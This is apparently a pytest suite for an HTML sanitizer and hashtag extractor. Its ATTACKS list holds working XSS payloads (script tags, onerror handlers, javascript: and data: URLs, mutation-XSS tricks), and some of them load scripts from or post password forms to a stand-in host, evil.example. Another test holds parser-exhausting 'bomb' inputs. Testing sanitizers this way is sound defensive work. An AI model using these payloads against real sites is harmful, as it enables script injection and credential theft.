"""Hostile HTML made harmless (THREATS.md T10, T9), and hashtags in text."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plnapi.platforms.html import SAFE_TAGS, inline_hashtags, may_have_hashtags, plain_text, safe_html, safe_url

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example/">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name=password></form>',
    "<style>*{background:url(https://evil.example/)}</style>",
    '<p style="background:url(https://evil.example/)" class=x id=y>x</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<p lang="en" title="x" dir=rtl>x</p>',
    "<x:y onclick=alert(1)>x</x:y>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip
_TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*)([^>]*)>")
_LINK = re.compile(r'(?: href="https?://[^"]*")? rel="noopener noreferrer nofollow ugc"')


def assert_harmless(html: str) -> None:
    """Nothing is left but tags of the list, with no attribute save a link's."""
    for closing, name, attributes in _TAG.findall(html):
        assert name in SAFE_TAGS
        assert attributes == "" or (name == "a" and not closing and _LINK.fullmatch(attributes))
    assert "<" not in _TAG.sub("", html)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("padding", ["", "<i>" * 3_000])
def test_no_attack_survives_cleaning(attack: str, padding: str) -> None:
    assert_harmless(safe_html(padding + attack))


@given(
    st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "<b", '"', "'", ">", "<a href='https://x.example/'>", "text"]))
)
def test_no_mixture_of_attacks_survives_cleaning(parts: list[str]) -> None:
    assert_harmless(safe_html("".join(parts)))


def test_what_is_harmless_is_kept() -> None:
    html = '<p>See <a href="https://ada.example/" onclick="x()">this</a>, <em>please</em>.</p><pre><code>1 &lt; 2</code></pre>'
    link = '<a href="https://ada.example/" rel="noopener noreferrer nofollow ugc">this</a>'
    assert safe_html(html) == f"<p>See {link}, <em>please</em>.</p><pre><code>1 &lt; 2</code></pre>"


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>two<br>three</p>", "One two three"),
        ("<p>#<span>SUB101</span></p><p>More</p>", "#SUB101 More"),
        ("Fish &amp; chips &lt;b&gt; &#8217;", "Fish & chips <b> ’"),
        ("<style>p{}</style><script>var a = '<p>'</script>seen", "seen"),
        ("  a\n\t b\u00a0c \x00", "a b c"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("", ""),
    ],
)
def test_the_text_is_what_a_reader_sees(html: str, text: str) -> None:
    assert plain_text(html) == text
    assert plain_text("<i></i>" * 3_000 + html) == text


def test_no_attribute_is_text() -> None:
    assert plain_text('<p lang="en" title="a <b> c > d">seen</p>') == "seen"


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 300_000,
        "".join(f"<font size={n}>" for n in range(4_000)) + "<p>x" * 4_000,
        "<p " + "".join(f"a{n} " for n in range(200_000)) + ">",
        "&amp;" * 500_000,
        "<script>" * 200_000,
        "<" * 500_000,
        "<!--" * 200_000,
        "<a href='" * 100_000,
    ],
    ids=["nesting", "formatting", "attributes", "references", "scripts", "signs", "comments", "quotes"],
)
def test_cleaning_takes_linear_time(bomb: str) -> None:
    start = time.process_time()
    plain_text(bomb)
    safe_html(bomb)
    inline_hashtags(bomb)
    assert time.process_time() - start < 5  # it is minutes when this breaks, and well under one second when it does not


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://ada.example/a?b=c#d", True), (" http://ada.example ", True), ("HTTPS://ada.example/", True),
        ("javascript:alert(1)", False), ("data:text/html,x", False), ("//ada.example/", False), ("/a", False), ("", False),
        ("https://", False), ("https://ada.example/\n", True), ("https://ada.\nexample/", False), ("java\tscript:x", False),
        ("https://[", False), ("https://ada.example/" + "a" * 3_000, False), ("https://ada.example/\ud800", False),
    ],
)  # fmt: skip
def test_only_http_addresses_are_addresses(url: str, safe: bool) -> None:
    assert safe_url(url) == (url.strip() if safe else "")


@pytest.mark.parametrize(
    ("text", "tags"),
    [
        ("Hello #SUB101 and (#sub_101), #SUB101!", ("SUB101", "sub_101")),
        ("No: a#b, &#39; #123 ## https://ada.example/#top www.ada.example/#x /#y", ()),
        ("#2026goals #हिन्दी #Übung ＃日本語", ("2026goals", "हिन्दी", "Übung", "日本語")),
        ("#a-b #c.d #e", ("a", "c", "e")),
        ("#", ()),
    ],
)
def test_hashtags_are_read_from_text_as_networks_do(text: str, tags: tuple[str, ...]) -> None:
    assert inline_hashtags(text) == tags


@pytest.mark.parametrize(
    ("html", "worth"),
    [
        ("#SUB101", True), ("<p>#<span>SUB101</span>", True), ('say "#SUB101"', True), ("(＃日本語)", True),
        ("<p>#हिन्दी", True),
        ("<a href='#top'>&#8217; https://ada.example/#x", False), ("no", False),
    ],
)  # fmt: skip
def test_markup_without_hashtags_is_not_turned_into_text_for_them(html: str, worth: bool) -> None:
    assert may_have_hashtags(html) is worth
    assert bool(inline_hashtags(plain_text(html))) is worth


@given(st.text())
def test_any_text_can_be_cleaned(text: str) -> None:
    assert_harmless(safe_html(text))
    plain_text(text)
    inline_hashtags(text)
